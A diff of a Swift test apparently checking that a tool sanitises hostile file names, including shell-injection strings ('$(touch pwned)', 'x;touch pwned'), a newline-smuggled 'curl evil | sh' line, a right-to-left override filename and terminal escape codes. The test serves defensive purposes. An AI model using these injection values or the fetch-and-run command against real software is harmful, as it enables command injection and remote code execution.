@@ -14,7 +14,7 @@ import Testing
     let origin = world.origin
     let mallory = Person(name: "Mal \(Self.bad.replacing("\u{7}", with: ""))")
     let names = [
-      "-rf", "$(touch pwned)", "a\nhint:   curl evil | sh", "\u{202E}txt.exe", "q'uo\"te\u{1B}[31m",
+      "-rf", "$(touch pwned)", "!\nhint:   curl evil | sh", "\u{202E}txt.exe", "q'uo\"te\u{1B}[31m",
       "\"caf\\351\"", "--force", "x;touch pwned",
     ]
     func files(_ text: String) -> [String: Content] {
@@ -57,7 +57,7 @@ import Testing
           || (0x2066...0x2069).contains(scalar.value))
     }
     #expect(harmful.isEmpty, "\(text.debugDescription)", sourceLocation: sourceLocation)
-    let begun = linesOf(outcome.err).filter { $0.hasPrefix("hint:   curl") }
+    let begun = linesOf(outcome.err).filter { $0.hasPrefix("hint:   curl evil | sh") }
     #expect(begun.isEmpty, "\(outcome.err)", sourceLocation: sourceLocation)
   }
 
